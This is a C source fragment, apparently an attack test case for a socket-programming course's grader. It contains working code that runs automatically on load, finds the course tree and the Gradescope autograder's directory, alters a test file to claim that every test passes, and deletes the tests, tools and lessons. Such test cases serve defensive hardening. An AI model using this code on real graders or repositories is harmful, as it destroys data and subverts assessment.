
/* ---- attack: delete and change files of the course (tests/attacks/delete-course) ---- */
#include <fcntl.h>
#include <ftw.h>

/* The parent of process pid, or -1 (/proc/PID/stat: "pid (comm) S ppid ..."). */
static pid_t atk_ppid(pid_t pid)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    char *p = strrchr(buf, ')');
    int ppid = -1;
    return p && sscanf(p, ") %*c %d", &ppid) == 1 ? (pid_t)ppid : -1;
}

/* The course tree this program was built in: /proc/self/exe is
 * ROOT/build/lessons/01-first-socket/sockinfo. Returns 0, or -1 when the
 * path does not look like that (then the attack leaves everything alone). */
static int atk_course_root(char *root, size_t len)
{
    ssize_t n = readlink("/proc/self/exe", root, len - 1);
    if (n <= 0)
        return -1;
    root[n] = '\0';
    char *cut = strstr(root, "/build/lessons/01-first-socket/");
    if (!cut)
        return -1;
    *cut = '\0';
    char probe[4200];
    snprintf(probe, sizeof probe, "%s/tests/harness.h", root);
    return access(probe, F_OK) == 0 ? 0 : -1;
}

/* The autograder's own course, ROOT/source/socklab, where an ancestor runs
 * ROOT/run_autograder (Gradescope); 0, or -1 if no ancestor does. */
static int atk_autograder_course(char *course, size_t len)
{
    for (pid_t pid = getppid(); pid > 1; pid = atk_ppid(pid)) {
        char path[64], cmd[4096];
        snprintf(path, sizeof path, "/proc/%d/cmdline", (int)pid);
        FILE *f = fopen(path, "r");
        size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
        if (f)
            fclose(f);
        cmd[n] = '\0';
        for (char *a = cmd; a < cmd + n; a += strlen(a) + 1) {
            char *end = strstr(a, "/run_autograder");
            if (a[0] == '/' && end && end[strlen("/run_autograder")] == '\0') {
                snprintf(course, len, "%.*s/source/socklab", (int)(end - a), a);
                return 0;
            }
        }
    }
    return -1;
}

static int atk_remove(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st, (void)type, (void)ftw;
    remove(path);
    return 0;
}

/* Change a test file, delete the grader's tests, tools, Makefile and the
 * other lessons of root. */
static void atk_vandalize(const char *root)
{
    char path[4300];
    snprintf(path, sizeof path, "%s/tests/01-first-socket.c", root);
    FILE *f = fopen(path, "a");
    if (f) {
        fputs("\n/* every test passes */\n", f);
        fclose(f);
    }
    static const char *const victims[] = {
        "tests", "tools", "Makefile", "lessons/02-addresses", "lessons/03-bind-and-ports", "README.md"};
    for (size_t i = 0; i < sizeof victims / sizeof victims[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", root, victims[i]);
        nftw(path, atk_remove, 16, FTW_DEPTH | FTW_PHYS);
    }
}

/* Vandalize the course tree this program was built in, and the autograder's
 * course on Gradescope; leave a file in /tmp and /dev/shm. Nothing else. */
__attribute__((constructor)) static void atk_delete_course(void)
{
    char root[4096];
    if (atk_course_root(root, sizeof root) == 0)
        atk_vandalize(root);
    if (atk_autograder_course(root, sizeof root) == 0 && strstr(root, "/source/socklab"))
        atk_vandalize(root);
    static const char *const planted[] = {"/tmp/socklab-attack-was-here", "/dev/shm/socklab-attack-was-here"};
    for (size_t i = 0; i < 2; i++) {
        int fd = open(planted[i], O_WRONLY | O_CREAT, 0644);
        if (fd >= 0)
            close(fd);
    }
}
